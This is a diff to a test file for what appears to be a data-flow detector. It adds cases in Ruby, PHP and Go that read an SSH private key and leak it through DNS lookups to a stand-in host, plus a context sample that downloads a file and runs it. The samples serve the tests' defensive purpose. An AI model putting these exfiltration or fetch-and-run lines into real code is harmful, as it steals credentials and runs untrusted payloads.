@@ -51,6 +51,16 @@ describe("what is fetched in one statement and evaluated in another is a flow", 
   });
 });
 
+describe("a secret in a name that is looked up is a flow, whole or in parts", () => {
+  test.each<[string, string[]]>([
+    ["a.rb", [`key = File.read("/root/.ssh/id_rsa")`, `Resolv.getaddress(key[0, 60] + ".take.test")`]],
+    ["a.php", [`$key = file_get_contents("/root/.ssh/id_rsa");`, `gethostbyname($key . ".take.test");`]],
+    ["a.go", [`key, _ := os.ReadFile("/root/.ssh/id_rsa")`, `net.LookupHost(key[:60] + ".take.test")`]],
+  ])("%s: %j", (file, lines) => {
+    expect(trace(file, ...lines)).toContain("ssh to *.take.test");
+  });
+});
+
 test("a file that is written with what was fetched and then started is a flow", () => {
   const lines = [`File.write("/tmp/tool", URI.open("${LOAD}").read)`, `system("/tmp/tool")`];
   expect(trace("a.rb", ...lines)).toContain("load.test to file");
